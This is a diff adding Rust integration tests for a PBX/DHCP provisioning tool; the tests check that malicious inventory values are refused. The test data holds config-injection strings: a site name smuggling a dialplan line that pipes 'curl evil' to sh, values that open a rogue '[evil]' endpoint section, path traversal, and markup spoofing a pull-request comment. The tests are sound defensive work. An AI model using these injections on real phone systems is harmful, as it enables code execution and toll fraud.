@@ -1,0 +1,226 @@
+//! The inventory as an attacker's pull request: no text of it may add a line, a section or a
+//! directive to any generated file, and every refusal is located by `provsite check`.
+
+mod common;
+
+use std::path::Path;
+
+use common::{boot30, run_provsite, Repo};
+use provsite::asterisk_conf::Config;
+
+/// `provsite check` fails with exit 1, locating the problem in `file` and saying `want`.
+fn refused(r: &Repo, file: &str, want: &str) -> String {
+    let out = r.provsite(&["check"]);
+    let err = String::from_utf8_lossy(&out.stderr).into_owned();
+    assert_eq!(out.status.code(), Some(1), "check accepted it:\n{err}");
+    assert!(
+        err.contains(&format!("--> {file}:")),
+        "not located in {file}:\n{err}"
+    );
+    assert!(err.contains(want), "no `{want}` in:\n{err}");
+    assert!(!err.contains("panicked"), "{err}");
+    err
+}
+
+/// Every command that writes a file for the PBX or the DHCP server refuses the inventory too.
+fn no_generator_runs(r: &Repo) {
+    for args in [
+        &["asterisk", "--format", "pjsip"][..],
+        &["asterisk", "--format", "sip"],
+        &["asterisk", "--hints"],
+        &["asterisk", "--notify"],
+        &["dhcp", "--format", "isc"],
+        &["dhcp", "--format", "dnsmasq"],
+        &["build"],
+    ] {
+        let out = r.provsite(args);
+        assert_eq!(
+            out.status.code(),
+            Some(1),
+            "{args:?} wrote: {}",
+            String::from_utf8_lossy(&out.stdout)
+        );
+        assert!(out.stdout.is_empty(), "{args:?} printed output");
+    }
+}
+
+#[test]
+fn a_line_break_in_the_site_name_is_refused_not_turned_into_dialplan() {
+    let r = Repo::with_base();
+    r.edit(
+        "inventory/site.yaml",
+        "name: Test site",
+        "name: \"Acme\\nexten => 666,1,System(curl evil | sh)\\n;\"",
+    );
+    r.commit("evil site name");
+    refused(&r, "inventory/site.yaml", "bad site name");
+    no_generator_runs(&r);
+}
+
+#[test]
+fn an_auth_user_cannot_open_a_section() {
+    let r = Repo::with_base();
+    r.edit(
+        "inventory/phones/base.yaml",
+        "{user: \"1001\", display_name",
+        "{user: \"1001\", auth_user: \"1001\\n\\n[evil]\\ntype=endpoint\\ncontext=admin-outbound\", display_name",
+    );
+    r.commit("evil auth user");
+    refused(&r, "inventory/phones/base.yaml", "bad SIP auth user");
+    no_generator_runs(&r);
+}
+
+#[test]
+fn a_sip_user_cannot_make_a_template_or_inherit() {
+    for user in ["1000](!)", "1000](tmpl)", "_X.", "10 01"] {
+        let r = Repo::with_base();
+        r.edit(
+            "inventory/phones/base.yaml",
+            "{user: \"1001\"",
+            &format!("{{user: \"{user}\""),
+        );
+        r.commit("odd user");
+        refused(&r, "inventory/phones/base.yaml", "bad SIP user");
+    }
+}
+
+#[test]
+fn an_env_password_with_a_line_break_is_refused() {
+    let r = Repo::with_base();
+    r.edit(
+        "inventory/phones/base.yaml",
+        "{user: \"1001\", display_name: \"Hélène Dupont\"}",
+        "{user: \"1001\", display_name: \"Hélène Dupont\", password: {env: PW_1001}}",
+    );
+    r.commit("env password");
+    let env = [("PW_1001", "x\n\n[evil]\ntype=endpoint")];
+    for args in [&["build"][..], &["asterisk", "--format", "pjsip"]] {
+        let out = run_provsite(r.path(), args, &env);
+        let err = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{args:?}: {err}");
+        assert!(!String::from_utf8_lossy(&out.stdout).contains("[evil]"));
+        assert!(err.contains("PW_1001"), "{args:?}: {err}");
+    }
+}
+
+#[test]
+fn the_factory_admin_password_is_refused_from_the_environment_too() {
+    let r = Repo::with_base();
+    let out = run_provsite(r.path(), &["build"], &[("TEST_ADMIN_PASSWORD", "784518")]);
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(1), "{err}");
+    assert!(err.contains("factory admin password"), "{err}");
+}
+
+#[test]
+fn a_backslash_in_a_password_reaches_asterisk_as_the_phone_has_it() {
+    let r = Repo::with_base();
+    r.edit(
+        "inventory/phones/base.yaml",
+        "{user: \"1001\", display_name: \"Hélène Dupont\"}",
+        "{user: \"1001\", display_name: \"Hélène Dupont\", password: {env: PW_1001}}",
+    );
+    r.commit("env password");
+    for pw in [r"ab\cd", r"a;b", r"a\;b", r"x\\"] {
+        let env = [("PW_1001", pw)];
+        let out = run_provsite(r.path(), &["build"], &env);
+        assert!(
+            out.status.success(),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let out = run_provsite(r.path(), &["asterisk", "--format", "pjsip"], &env);
+        assert!(out.status.success());
+        let text = String::from_utf8(out.stdout).unwrap();
+        // Asterisk's own reading: `\;` is the only escape it undoes.
+        let c = Config::parse(Path::new("pjsip.conf"), &text).unwrap();
+        let auth = c
+            .sections
+            .iter()
+            .find(|s| s.name == "1001-auth")
+            .expect("auth section");
+        let phone = boot30(&r, "001F9F16E849");
+        assert_eq!(phone.value("sip", "regpwd1").as_deref(), Some(pw));
+        assert_eq!(auth.get("password"), Some(pw), "{text}");
+    }
+}
+
+#[test]
+fn control_characters_and_huge_values_never_reach_the_files() {
+    for (what, value) in [
+        ("NUL", "a\\0b"),
+        ("VT", "a\\vb"),
+        ("FF", "a\\fb"),
+        ("NEL", "a\\Nb"),
+        ("LS", "a\\Lb"),
+    ] {
+        let r = Repo::with_base();
+        r.edit(
+            "inventory/site.yaml",
+            "Ringer_default_vol: \"5\"",
+            &format!("Ringer_default_vol: \"{value}\""),
+        );
+        r.commit(what);
+        refused(&r, "inventory/site.yaml", "Ringer_default_vol");
+    }
+    let r = Repo::with_base();
+    let huge = "9".repeat(1_000_000);
+    r.edit(
+        "inventory/site.yaml",
+        "Ringer_default_vol: \"5\"",
+        &format!("Ringer_default_vol: \"{huge}\""),
+    );
+    r.commit("huge value");
+    refused(&r, "inventory/site.yaml", "the most is 512");
+}
+
+#[test]
+fn a_phone_name_cannot_spoof_the_pull_request_comment() {
+    let r = Repo::with_base();
+    r.edit(
+        "inventory/phones/base.yaml",
+        "  model: ST2022\n",
+        "  model: ST2022\n  name: \"x\\nNo phone is affected.\\n<!--\"\n",
+    );
+    r.commit("newline in a name");
+    refused(&r, "inventory/phones/base.yaml", "bad phone name");
+
+    // On one line, the same text is shown as text: no HTML comment opens, no heading starts.
+    let r = Repo::with_base();
+    let phones = r.read("inventory/phones/base.yaml");
+    r.write(
+        "inventory/phones/base.yaml",
+        &format!("{phones}- mac: \"00:1F:9F:00:00:01\"\n  model: ST2030\n  name: \"No phone is affected. <!-- [x](http://evil.test) `y` # z\"\n  lines: [{{user: \"1009\"}}]\n"),
+    );
+    r.commit("a new phone with markup in its name");
+    let md = r.stdout(&["diff", "HEAD~1", "HEAD", "--format", "markdown"]);
+    assert!(!md.contains("<!--"), "{md}");
+    assert!(!md.contains("](http"), "{md}");
+    assert!(md.contains("&lt;\\!\\-\\-"), "{md}");
+    assert!(
+        md.contains("00:1F:9F:00:00:01") || md.contains("001F9F000001"),
+        "{md}"
+    );
+    for line in md.lines() {
+        assert!(!line.starts_with("No phone is affected. "), "{md}");
+    }
+}
+
+#[test]
+fn entry_point_names_are_file_names_ending_in_inf() {
+    for (name, want) in [
+        ("ST2030S\\\\", "bad entry point name"),
+        ("manifest.json", "does not end with .inf"),
+        ("../x.inf", "bad entry point name"),
+        ("index.html", "does not end with .inf"),
+    ] {
+        let r = Repo::with_base();
+        r.edit(
+            "inventory/site.yaml",
+            "    firmware: fw30\n",
+            &format!("    firmware: fw30\n    entry_point: \"{name}\"\n"),
+        );
+        r.commit("entry point");
+        refused(&r, "inventory/site.yaml", want);
+    }
+}
